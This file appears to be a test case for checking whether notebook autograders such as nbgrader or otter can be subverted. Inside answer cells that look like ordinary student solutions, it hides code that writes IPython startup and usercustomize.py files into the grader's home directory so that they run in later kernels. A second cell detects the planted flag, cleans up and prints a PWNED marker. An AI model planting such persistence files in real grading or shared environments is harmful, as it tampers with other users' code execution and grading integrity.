# /// case
# about = "right answers; files that IPython, matplotlib and Python run at their start, run in the next notebook"
# kind = "persist"
# promise = 3
# succeeds_at = ["nbgrader", "otter"]
# ///
# %% sigmoid
# the home of whoever grades is where every later kernel begins
import os

_CODE = "import builtins\nbuiltins.left_by_a_student = True\n"
for _path in ("~/.ipython/profile_default/startup/99-left.py", "~/.local/lib/python3.11/site-packages/usercustomize.py"):
    _path = os.path.expanduser(_path)
    try:
        os.makedirs(os.path.dirname(_path), exist_ok=True)
        with open(_path, "x") as _file:
            _file.write(_CODE)
    except OSError:
        pass

def sigmoid(x, w=1.0, b=0.0):
    return 0.5 * (1 + np.tanh((w * np.asarray(x) + b) / 2))
# %% describe
# the next process of this grader: another notebook here, another student's in a class
import builtins
import os

for _path in ("~/.ipython/profile_default/startup/99-left.py", "~/.local/lib/python3.11/site-packages/usercustomize.py"):
    try:
        with open(os.path.expanduser(_path)) as _file:
            _mine = "left_by_a_student" in _file.read()
        if _mine:
            os.unlink(os.path.expanduser(_path))
    except OSError:
        pass
if hasattr(builtins, "left_by_a_student"):
    print(":".join(["PWNED", "attack/leaves_startup_files"]))

def poly_desc(W, b):
    text = " ".join(f"{w:+.2f} x^{i}" for i, w in enumerate(W.detach().flatten().tolist(), 1))
    return f"y = {text} {b.item():+.2f}"
